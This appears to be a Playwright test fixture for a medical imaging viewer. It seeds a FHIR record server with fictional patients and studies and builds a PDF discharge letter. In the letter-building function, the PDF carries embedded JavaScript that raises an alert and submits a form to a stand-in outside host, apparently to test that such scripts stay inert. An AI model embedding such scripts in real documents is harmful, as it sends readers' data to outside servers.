// A department whose record server knows its studies: one of the right patient, one of another, one of somebody who cannot be
// told for certain. What the record says of the first is in recordOfPatient.ts.
import { PDFDocument, PDFName, type PDFPage, PDFString } from 'pdf-lib';
import type { Locator, Page } from '@playwright/test';
import { LinkRun, RecordServer } from '../../../native/contract/index.ts';
import { ctSeries, writeFiles, type GeneratedFile } from '../../generate/index.ts';
import { startFhirServer, type FhirServer } from '../../integration/fhir/server.ts';
import { recordOfPatient } from '../../peers/recordOfPatient.ts';
import { expect, type Lightbox } from '../app.ts';

export const NUMBERS = 'urn:example:hospital';
const studyOf = (study: string, PatientName: string, PatientID: string): GeneratedFile[] =>
  ctSeries({ study, slices: 3, rows: 64, columns: 64, PatientName, PatientID });
export const own = studyOf('own', 'Moonbrook^Idris', 'LB-1');
export const other = studyOf('other', 'Test^Generated', 'LB-2');
export const doubtful = studyOf('doubtful', 'Lanternby^Cosmo', 'LB-3');
export const uidOf = (files: readonly GeneratedFile[]): string => files[0]?.StudyInstanceUID ?? '';

export const person = (id: string, number: string, family: string, given: string, birthDate: string) => ({
  resourceType: 'Patient',
  id,
  identifier: [{ system: NUMBERS, value: number }],
  name: [{ use: 'official', family, given: [given] }],
  birthDate,
  gender: 'other',
});
const imaging = (id: string, uid: string, patient: string) => ({
  resourceType: 'ImagingStudy',
  id,
  status: 'available',
  identifier: [{ system: 'urn:dicom:uid', value: `urn:oid:${uid}` }],
  subject: { reference: `Patient/${patient}` },
  basedOn: [{ reference: 'ServiceRequest/order' }],
});

async function letter(): Promise<string> {
  const pdf = await PDFDocument.create();
  const page = pdf.addPage([400, 300]);
  page.drawRectangle({ x: 0, y: 0, width: 400, height: 300 }); // black: a page that was not drawn is white
  japanese(pdf, page);
  pdf.addJavaScript('hostile', "app.alert(1); this.submitForm('http://elsewhere.example/')"); // of no effect
  return Buffer.from(await pdf.save()).toString('base64');
}

/** A line in a font that is not embedded, as printers of Japanese houses write them: its letters are numbered by Shift JIS. */
function japanese({ context }: PDFDocument, page: PDFPage): void {
  const font = context.obj({
    Type: 'Font',
    Subtype: 'CIDFontType2',
    BaseFont: 'MS-Mincho',
    CIDSystemInfo: { Registry: PDFString.of('Adobe'), Ordering: PDFString.of('Japan1'), Supplement: 2 },
    FontDescriptor: {
      Type: 'FontDescriptor',
      FontName: 'MS-Mincho',
      Flags: 4,
      FontBBox: [0, -136, 1000, 859],
      ItalicAngle: 0,
      Ascent: 859,
      Descent: -140,
      CapHeight: 769,
      StemV: 78,
    },
    DW: 1000,
  });
  const encoded = context.obj({
    Type: 'Font',
    Subtype: 'Type0',
    BaseFont: 'MS-Mincho-90ms-RKSJ-H',
    Encoding: '90ms-RKSJ-H',
    DescendantFonts: [context.register(font)],
  });
  page.node.setFontDictionary(PDFName.of('F9'), context.register(encoded));
  const line = 'BT 1 1 1 rg /F9 20 Tf 20 20 Td <8FE38AED90D4> Tj ET';
  page.node.addContentStream(context.register(context.stream(line)));
}

/** A request of the page's own, to the services. */
export const ask = (page: Page, path: string, method: string, body: unknown): Promise<unknown> =>
  page.evaluate(
    async ([at, how, what]) => {
      const headers = { 'content-type': 'application/json' };
      const answer = await fetch(at, { method: how, headers, body: JSON.stringify(what) });
      return answer.status === 204 ? null : ((await answer.json()) as unknown);
    },
    [path, method, body] as const,
  );

/** Imports the studies, and has Lightbox find them in the record. */
export async function begin(lightbox: Lightbox): Promise<FhirServer> {
  const { page } = lightbox;
  writeFiles(lightbox.workDirectory, [...own, ...other, ...doubtful]);
  expect((await lightbox.importPaths([lightbox.workDirectory])).state).toBe('done');
  const server = await startFhirServer();
  await server.put(
    person('p1', 'LB-1', 'Moonbrook', 'Idris', '1970-01-01'),
    person('p2', 'LB-2', 'Quillfeather', 'Barnaby', '1994-08-30'),
    imaging('i1', uidOf(own), 'p1'),
    imaging('i2', uidOf(other), 'p2'),
    // Too little to tell him from another.
    { resourceType: 'Patient', id: 'p3', name: [{ family: 'Lanternby', given: ['Cosmo'] }] },
    imaging('i3', uidOf(doubtful), 'p3'),
    ...recordOfPatient('Patient/p1', 'ImagingStudy/i1'),
    {
      resourceType: 'DiagnosticReport',
      id: 'letter',
      status: 'final',
      code: { text: 'Discharge letter' },
      subject: { reference: 'Patient/p1' },
      effectiveDateTime: '2025-11-28',
      presentedForm: [{ contentType: 'application/pdf', data: await letter() }],
    },
  );
  const settings = { name: 'Hospital record', url: server.url };
  RecordServer.parse(await ask(page, '/api/records/servers', 'POST', { settings }));
  await ask(page, '/api/records/issuers', 'PUT', { patients: { '': [NUMBERS] }, accessions: [] });
  LinkRun.parse(await ask(page, '/api/records/link', 'POST', {}));
  await expect
    .poll(() =>
      page.evaluate(
        async () => ((await (await fetch('/api/records/link')).json()) as { state: string }).state,
      ),
    )
    .toBe('done');
  return server;
}

/** A part of the record, where it is shown. */
export const part = (page: Page, name: string): Locator => page.locator(`[data-record-section="${name}"]`);

export async function openRecord(page: Page): Promise<void> {
  await page.locator('[data-pane="0"]').focus();
  await page.keyboard.press('Shift+K');
  await page.getByRole('tab', { name: 'Record' }).click();
}
